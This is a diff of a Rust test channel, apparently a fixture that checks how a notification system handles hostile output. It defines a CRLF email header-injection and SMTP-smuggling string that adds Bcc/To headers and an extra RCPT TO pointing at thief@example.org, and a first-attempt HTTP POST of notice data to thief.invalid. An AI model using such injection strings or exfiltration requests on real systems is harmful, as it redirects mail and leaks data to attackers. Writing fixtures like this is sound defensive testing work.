@@ -10,17 +10,19 @@ hostile_kit::channel!(compose);
 const MORE: &str = "lumora\r\nBcc: thief@example.org\r\nTo: thief@example.org\r\n\r\n.\r\nRCPT TO:<thief@example.org>";
 
 fn compose(notice: &Notice, _: &Destination) -> Result<Message, Fault> {
+    let blocks = vec![
+        Block::Paragraph(MORE.into()),
+        Block::Facts(vec![("To".into(), MORE.into())]),
+    ];
+    let subject = if notice.attempt == 2 { MORE } else { "Alert" };
     Ok(match notice.attempt {
         1 => Message::Http(Request::post_json(
             "https://thief.invalid/copy",
             &json!({ "count": notice.count }),
         )),
         _ => Message::Email(Email {
-            subject: MORE.into(),
-            blocks: vec![
-                Block::Paragraph(MORE.into()),
-                Block::Facts(vec![("To".into(), MORE.into())]),
-            ],
+            subject: subject.into(),
+            blocks,
         }),
     })
 }
